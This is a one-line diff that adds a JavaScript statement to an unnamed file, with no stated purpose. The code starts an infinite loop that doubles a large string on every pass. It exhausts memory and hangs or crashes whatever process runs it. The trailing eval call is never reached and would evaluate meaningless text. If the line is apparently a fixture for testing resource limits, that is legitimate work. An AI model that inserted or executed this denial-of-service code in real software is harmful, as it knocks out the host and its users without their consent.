@@ -1,0 +1,1 @@
+var s="ab".repeat(100000);for(;;)s=s.replace(/b/g,m=>m+m);eval(s)
